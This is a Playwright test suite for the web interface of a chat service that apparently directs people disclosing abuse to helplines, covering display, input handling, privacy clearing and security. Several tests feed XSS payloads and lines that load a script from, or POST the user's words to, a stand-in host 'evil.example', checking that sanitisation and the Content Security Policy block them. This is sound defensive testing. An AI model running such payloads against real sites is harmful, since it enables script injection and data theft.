"""The conversation as it is seen: what is shown, what can be tapped, what is sent."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from .conftest import API, Chat, Traffic, token_of

PAST = "my uncle hurt me when i was little"
DANGER = "he is hurting me right now"


def reply_with(page: Page, *messages: dict[str, Any], **rest: Any) -> None:
    """Stands in for the server, to show what it may send but seldom does."""
    whole = [{"text": "", "route": "unsure", "channels": [], "quick_replies": [], **m} for m in messages]
    body = json.dumps({"messages": whole, "exit": False, **rest})
    page.route(API + "messages", lambda route: route.fulfill(content_type="application/json", body=body))


def channel(**given: Any) -> dict[str, Any]:
    whole = dict.fromkeys(("id", "phone", "tel", "text", "url", "hours", "open_now", "cost", "about"))
    return {**whole, "name": "A helpline", **given}


def test_the_greeting_is_the_servers(chat: Chat) -> None:
    with chat.page.expect_response(API + "conversations") as waiting:
        chat.open()
    greeting = waiting.value.json()["messages"]
    first = greeting[0]["text"].split("\n\n")[0]
    expect(chat.replies.first).to_contain_text(first)
    expect(chat.choices).to_have_text([q["title"] for m in greeting for q in m["quick_replies"]])


def test_before_the_first_message_it_says_what_it_is(chat: Chat) -> None:
    chat.load()
    intro = chat.page.locator(".intro")
    for words in (
        "This is a computer program, not a person.",
        "It can't see who you are or where you are.",
        "It can't send help.",
        "This does not erase your browsing history.",
    ):
        expect(intro).to_contain_text(words)
    expect(chat.page.locator("label")).to_have_text("Write here. No names, please.")
    more = intro.get_by_text("Delete only this page.")
    expect(more).to_be_hidden()
    intro.get_by_text("How to delete your history").click()
    expect(more).to_be_visible()


@pytest.mark.parametrize("text", [PAST, DANGER])
def test_a_reply_shows_everything_the_server_sent(chat: Chat, text: str) -> None:
    chat.open()
    answer = chat.say(text)
    expect(chat.own_words.last).to_contain_text(text)
    assert any(m["channels"] for m in answer["messages"])
    for message, shown in zip(reversed(answer["messages"]), reversed(chat.replies.all()), strict=False):
        paragraphs = [p.strip() for p in re.split(r"\n\s*\n", message["text"]) if p.strip()]
        expect(shown.locator(".words p")).to_have_text(paragraphs)
        cards = shown.locator(".channel")
        expect(cards).to_have_count(len(message["channels"]))
        for sent, card in zip(message["channels"], cards.all(), strict=True):
            expect(card.get_by_role("heading")).to_have_text(sent["name"])
            if sent["tel"]:
                call = card.get_by_role("link", name=f"Call {sent['phone']}")
                expect(call).to_have_attribute("href", sent["tel"])
            if sent["url"]:
                site = card.get_by_role("link", name=f"({sent['name']}, opens a new tab)")
                expect(site).to_have_attribute("href", sent["url"])
                expect(site).to_have_attribute("rel", "noreferrer noopener")
            for words in (sent["hours"], sent["cost"], sent["about"]):
                if words:
                    expect(card).to_contain_text(words, ignore_case=True)
            if sent["open_now"] is not None:
                expect(card).to_contain_text("Open now" if sent["open_now"] else "Closed now")
    expect(chat.choices).to_have_text([q["title"] for m in answer["messages"] for q in m["quick_replies"]])


def test_the_lead_comes_first_and_stands_out(chat: Chat) -> None:
    chat.open()
    chat.say(DANGER)
    cards = chat.page.locator(".channel")
    expect(cards.first).to_have_class(re.compile("lead"))
    expect(chat.page.locator(".lead")).to_have_count(1)
    sizes = cards.get_by_role("heading").evaluate_all("all => all.map(one => parseFloat(getComputedStyle(one).fontSize))")
    assert sizes[0] > max(sizes[1:], default=0)


def test_an_answer_is_shown_from_its_start(chat: Chat) -> None:
    chat.open()
    chat.say(PAST)
    chat.say(DANGER)
    expect(chat.own_words.last).to_be_in_viewport(ratio=1)
    log = chat.page.locator(".log").bounding_box()
    words = chat.own_words.last.bounding_box()
    assert log is not None
    assert words is not None
    assert 0 <= words["y"] - log["y"] < 30


def test_a_long_message_does_not_push_its_answer_off_the_screen(chat: Chat) -> None:
    chat.page.set_viewport_size({"width": 360, "height": 640})
    chat.open()
    chat.say("i dont know what to do " * 25)
    expect(chat.replies.last.locator("p").first).to_be_in_viewport(ratio=1)
    expect(chat.replies.last.get_by_role("link", name="Call").first).to_be_in_viewport()


def test_a_choice_is_shown_as_the_persons_own_and_its_payload_never(chat: Chat) -> None:
    chat.open()
    choice = chat.choices.first
    title = choice.inner_text()
    with chat.page.expect_request(API + "messages") as sent:
        choice.click()
    payload = sent.value.post_data_json["text"]
    expect(chat.own_words).to_have_text(re.compile(re.escape(title)))
    if payload != title:
        expect(chat.page.locator("body")).not_to_contain_text(payload)
        assert payload not in chat.page.content()


def test_choices_close_once_used(chat: Chat) -> None:
    chat.open()
    used = chat.page.locator(".choices").first
    chat.answer_to(used.get_by_role("button").first.click)
    for button in used.get_by_role("button").all():
        expect(button).to_be_disabled()
    requests: list[str] = []
    chat.page.on("request", lambda r: requests.append(r.url))
    used.get_by_role("button").last.click(force=True)
    chat.page.wait_for_timeout(200)
    assert requests == []


def test_choices_close_once_something_newer_was_said(chat: Chat) -> None:
    chat.open()
    old = chat.page.locator(".choices").first
    chat.say(PAST)
    for button in old.get_by_role("button").all():
        expect(button).to_be_disabled()


def test_a_used_choice_keeps_the_focus(chat: Chat) -> None:
    chat.open()
    choice = chat.choices.first
    choice.focus()
    chat.answer_to(lambda: chat.page.keyboard.press("Enter"))
    expect(chat.page.locator(".choices").first.get_by_role("button").first).to_be_focused()


def test_enter_sends_and_shift_enter_makes_a_line(chat: Chat) -> None:
    chat.open()
    chat.box.press_sequentially("one")
    chat.box.press("Shift+Enter")
    chat.box.press_sequentially("two")
    expect(chat.box).to_have_value("one\ntwo")
    with chat.page.expect_request(API + "messages") as sent:
        chat.box.press("Enter")
    assert sent.value.post_data_json["text"] == "one\ntwo"
    expect(chat.box).to_have_value("")


def test_enter_that_ends_a_composed_word_does_not_send(chat: Chat) -> None:
    chat.open()
    chat.box.fill("にほん")
    chat.box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    chat.page.wait_for_timeout(200)
    expect(chat.own_words).to_have_count(0)
    expect(chat.box).to_have_value("にほん")


def test_nothing_is_sent_for_nothing(chat: Chat) -> None:
    chat.open()
    chat.box.fill("   ")
    chat.send_button.click()
    expect(chat.box).to_be_focused()
    expect(chat.own_words).to_have_count(0)


def test_a_double_tap_sends_once(chat: Chat) -> None:
    chat.open()
    sent: list[str] = []

    def slowly(route: Route) -> None:
        sent.append(route.request.url)
        chat.page.wait_for_timeout(300)
        route.continue_()

    chat.page.route(API + "messages", slowly)
    chat.box.fill(PAST)
    chat.send_button.dblclick()
    chat.box.press("Enter")
    expect(chat.own_words).to_have_count(1)
    chat.page.wait_for_timeout(400)
    assert len(sent) == 1


def test_what_is_typed_while_waiting_is_kept(chat: Chat) -> None:
    chat.open()
    release = chat.hold()
    chat.send(PAST)
    chat.box.press_sequentially(" and now")
    chat.page.wait_for_timeout(100)
    release[0].continue_()
    expect(chat.own_words).to_have_count(1)
    expect(chat.box).to_have_value("and now")


def test_a_message_sent_before_the_greeting_came_waits_for_it(chat: Chat) -> None:
    release = chat.hold("conversations")
    chat.load()
    chat.box.fill(PAST)
    chat.send_button.click()
    expect(chat.send_button).to_be_disabled()
    release[0].continue_()
    expect(chat.own_words).to_have_count(1)
    assert len(release) == 1


def test_a_full_box_says_so(chat: Chat) -> None:
    chat.open()
    note = chat.page.locator("#words-note")
    chat.box.fill("a" * 3900)
    expect(note).to_have_text("There is room for 100 more letters.")
    chat.box.fill("a" * 4000)
    expect(note).to_have_text("The box is full. Send this part, then write more.")
    chat.box.fill("a")
    expect(note).to_be_empty()


def test_the_numbers_are_one_tap_away(chat: Chat) -> None:
    chat.open()
    expect(chat.numbers).to_be_hidden()
    chat.numbers_button.click()
    expect(chat.numbers).to_be_visible()
    links = chat.numbers.get_by_role("link")
    assert links.count() >= 3
    for link in links.all():
        digits = re.sub(r"\D", "", link.inner_text())
        assert re.sub(r"\D", "", link.get_attribute("href") or "") == digits
        assert (link.get_attribute("href") or "").startswith("tel:")
    chat.numbers_button.click()
    expect(chat.numbers).to_be_hidden()


def test_starting_again_clears_the_words_and_tells_the_server(chat: Chat) -> None:
    with chat.page.expect_response(API + "conversations") as first:
        chat.open()
    chat.say(PAST)
    chat.box.fill("half a thought")
    token = token_of(first.value)
    with (
        chat.page.expect_request(f"**/conversations/{token}/forget"),
        chat.page.expect_response(API + "conversations") as second,
    ):
        chat.again.click()
    expect(chat.own_words).to_have_count(0)
    expect(chat.box).to_have_value("")
    expect(chat.replies).to_have_count(len(second.value.json()["messages"]))
    assert token_of(second.value) != token
    gone = chat.page.request.post(f"{chat.url}/webhooks/web/messages", data={"conversation": token, "text": "hello"})
    assert gone.status == 404


def test_ten_quiet_minutes_clear_the_chat(chat: Chat) -> None:
    chat.page.clock.install()
    with chat.page.expect_response(API + "conversations") as opened:
        chat.open()
    chat.say(PAST)
    chat.box.fill("half a thought")
    token = token_of(opened.value)
    chat.page.clock.fast_forward("09:10")
    expect(chat.status).to_contain_text("clears itself in one minute")
    expect(chat.own_words).to_have_count(1)
    with chat.page.expect_request(f"**/conversations/{token}/forget"):
        chat.page.clock.fast_forward("01:00")
    expect(chat.status).to_contain_text("cleared for your safety")
    expect(chat.own_words).to_have_count(0)
    expect(chat.replies).to_have_count(0)
    expect(chat.box).to_have_value("")
    chat.numbers_button.click()
    expect(chat.numbers).to_be_visible()
    chat.say(PAST)
    expect(chat.own_words).to_have_count(1)


def test_a_sign_of_life_keeps_the_chat(chat: Chat) -> None:
    chat.page.clock.install()
    chat.open()
    chat.say(PAST)
    chat.page.clock.fast_forward("09:10")
    expect(chat.status).to_contain_text("clears itself")
    chat.box.press("a")
    expect(chat.status).to_be_empty()
    chat.page.clock.fast_forward("08:00")
    expect(chat.own_words).to_have_count(1)


def test_a_message_in_another_language_is_marked_and_runs_its_own_way(chat: Chat) -> None:
    chat.open()
    card = channel(phone="01632 960000", tel="tel:01632960000")
    reply_with(chat.page, {"text": "مرحبا", "lang": "ar", "channels": [card]}, {"text": "Helo", "lang": "cy"})
    chat.say(PAST)
    arabic, welsh = chat.replies.nth(-2), chat.replies.nth(-1)
    expect(arabic.locator(".words")).to_have_attribute("lang", "ar")
    expect(arabic.locator(".words")).to_have_attribute("dir", "rtl")
    expect(welsh.locator(".words")).to_have_attribute("lang", "cy")
    expect(welsh.locator(".words")).to_have_attribute("dir", "ltr")
    expect(arabic.locator("bdi")).to_have_attribute("dir", "ltr")


def test_the_persons_words_are_kept_apart_from_the_page(chat: Chat) -> None:
    chat.open()
    chat.say("\u202eevil txet <b>bold</b>")
    words = chat.own_words.locator("p")
    expect(words).to_have_attribute("dir", "auto")
    expect(words).to_have_css("unicode-bidi", re.compile("isolate|plaintext"))
    expect(words).to_have_text("\u202eevil txet <b>bold</b>")
    expect(words.locator("b")).to_have_count(0)


def test_ways_to_reach_a_service(chat: Chat) -> None:
    chat.open()
    reply_with(
        chat.page,
        {
            "text": "One\n\nTwo\nthree",
            "channels": [
                channel(
                    phone="01632 960000",
                    tel="tel:01632960000",
                    text="HELP to 01632 960001",
                    sms="sms:01632960001?body=HELP",
                    url="https://www.example.org/help",
                    hours="9 to 5",
                    open_now=False,
                    cost="free",
                    about="It helps.",
                    details={
                        "for": "Anyone.",
                        "not_for": "Nobody.",
                        "confidentiality": "They tell nobody.",
                        "languages": ["English", "Welsh"],
                        "ways": [
                            {"label": "Chat", "text": "https://example.org/chat/", "link": "https://example.org/chat/"},
                            {"label": "Email", "text": "a@example.org", "link": "mailto:a@example.org", "note": "slow"},
                            {"label": "Message", "text": "@helpline", "link": None, "note": None},
                            {"label": "Wrong", "text": "wrong", "link": "javascript:alert(1)"},
                        ],
                    },
                ),
                channel(name="Another", text="01632 960002"),
            ],
        },
    )
    chat.say(PAST)
    card, other = chat.page.locator(".channel").all()
    texting = card.get_by_role("link", name="Text HELP to 01632 960001")
    expect(texting).to_have_attribute("href", "sms:01632960001?body=HELP")
    expect(card.locator("a.site")).to_have_attribute("href", "https://www.example.org/help")
    expect(card).to_contain_text("Closed now")
    expect(card).to_contain_text("9 to 5. Free.")
    expect(card.get_by_text("They tell nobody.")).to_be_hidden()
    card.get_by_text("More about A helpline").click()
    for words in ("For: Anyone.", "Not for: Nobody.", "Your privacy: They tell nobody.", "English, Welsh."):
        expect(card.get_by_text(words)).to_be_visible()
    ways = card.locator("details li")
    expect(ways).to_have_text(
        ["Chat example.org/chat (opens a new tab)", "Email a@example.org (slow)", "Message @helpline", "Wrong wrong"]
    )
    expect(ways.locator("a")).to_have_count(2)
    expect(ways.locator("a").first).to_have_attribute("rel", "noreferrer noopener")
    expect(other).to_contain_text("Text 01632 960002")
    expect(other.get_by_role("link")).to_have_count(0)


HOSTILE = ["javascript:alert(1)", "data:text/html,<script>1</script>", "http://example.org", " javascript:alert(1)"]


@pytest.mark.parametrize("link", HOSTILE)
def test_a_link_of_the_wrong_kind_is_not_one(chat: Chat, link: str) -> None:
    chat.open()
    reply_with(chat.page, {"text": "Hello", "channels": [channel(phone="1", tel=link, url=link, text="1", sms=link)]})
    chat.say(PAST)
    expect(chat.page.locator(".channel")).to_have_count(1)
    expect(chat.page.locator(".channel a")).to_have_count(0)


def test_markup_from_the_server_is_shown_as_words(chat: Chat) -> None:
    chat.open()
    markup = "<img src=x onerror=alert(1)>"
    reply_with(
        chat.page,
        {
            "text": markup,
            "channels": [channel(name=markup, about=markup, hours=markup, details={"for": markup})],
            "quick_replies": [{"title": markup, "payload": "p"}],
        },
    )
    chat.say(PAST)
    expect(chat.page.locator("img")).to_have_count(0)
    expect(chat.replies.last.locator(".words")).to_have_text(markup)
    expect(chat.choices).to_have_text([markup])


BREACHES = {
    "markup": "document.body.innerHTML = '<p>x</p>'",
    "somebody else's script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
}


@pytest.mark.parametrize("breach", BREACHES.values(), ids=BREACHES.keys())
def test_the_security_policy_holds(chat: Chat, traffic: Traffic, breach: str) -> None:
    """Trusted Types and all: were there a hole in the scripts, there would be nothing to put through it."""
    traffic.expect("Trusted|Content Security Policy")
    chat.open()
    found = chat.page.evaluate(f"() => {{ try {{ {breach}; return 'done' }} catch (error) {{ return error.name }} }}")
    assert found == "TypeError"
    expect(chat.replies.first).to_be_visible()


def test_the_policy_keeps_words_from_going_elsewhere(chat: Chat, traffic: Traffic) -> None:
    traffic.expect("Content Security Policy|Refused to connect|violates")
    chat.open()
    sent = chat.page.evaluate("() => fetch('https://evil.example/', {method: 'POST', body: 'words'}).then(() => 'sent', e => e.name)")
    assert sent == "TypeError"
    assert traffic.foreign == []


def test_two_tabs_share_nothing(chat: Chat, context: BrowserContext) -> None:
    chat.open()
    chat.say(PAST)
    other = Chat(context.new_page(), chat.url)
    other.open()
    expect(other.own_words).to_have_count(0)
    chat.page.reload()
    expect(chat.replies.first).to_be_visible()
    expect(chat.own_words).to_have_count(0)


def test_a_whole_visit_asks_nobody_else(chat: Chat, traffic: Traffic) -> None:
    requests: list[str] = []
    chat.page.on("request", lambda r: requests.append(r.url))
    chat.open()
    chat.say(PAST)
    chat.say(DANGER)
    assert requests
    assert all(url.startswith(chat.url + "/") for url in requests)
    # Nothing that was said, and no name of the conversation, in an address.
    assert not [url for url in requests if "?" in url or "#" in url or "/conversations/" in url]
    assert traffic.left == []
